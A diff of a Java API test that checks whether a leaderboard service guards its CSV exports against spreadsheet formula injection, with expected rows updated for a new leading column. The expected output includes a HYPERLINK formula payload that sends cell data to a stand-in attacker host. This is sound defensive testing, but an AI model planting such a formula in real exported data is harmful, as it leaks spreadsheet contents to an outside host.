@@ -58,7 +58,7 @@ class HostileDataApiTest {
         assertEquals(1.5, rows.get(1).get("mean").doubleValue(), "an ordinary mean keeps its exact value");
 
         String csv = table("text/csv");
-        assertTrue(csv.contains("\r\n1," + P + "big,170000000000000000"), csv);
+        assertTrue(csv.contains("\r\n1,1," + P + "big,170000000000000000"), csv);
 
         String pareto = given().urlEncodingEnabled(false).accept("application/json").get("/api/v1/pareto?benchmark="
                 + Urls.encode(HUGE_A) + "&benchmark=" + Urls.encode(HUGE_B) + "&x=costUsd").then().statusCode(200)
@@ -75,9 +75,9 @@ class HostileDataApiTest {
         String csv = given().urlEncodingEnabled(false).accept("text/csv")
                 .get("/api/v1/leaderboards/" + Urls.encode(BENCH)).then().statusCode(200).extract().asString();
         String[] lines = csv.split("\r\n");
-        assertTrue(lines[1].startsWith("1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")"), lines[1]);
-        assertTrue(lines[2].startsWith("2,'@SUM(A1:A9)"), lines[2]);
-        assertTrue(lines[3].startsWith("3,'-1+2"), lines[3]);
+        assertTrue(lines[1].startsWith("1,1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")"), lines[1]);
+        assertTrue(lines[2].startsWith("2,2,'@SUM(A1:A9)"), lines[2]);
+        assertTrue(lines[3].startsWith("3,3,'-1+2"), lines[3]);
         // The JSON keeps the name as it is: only the spreadsheet form needs the guard.
         given().urlEncodingEnabled(false).accept("application/json").get("/api/v1/leaderboards/" + Urls.encode(BENCH))
                 .then().statusCode(200).body("entries[0].model", org.hamcrest.Matchers.equalTo(FORMULA_MODEL));
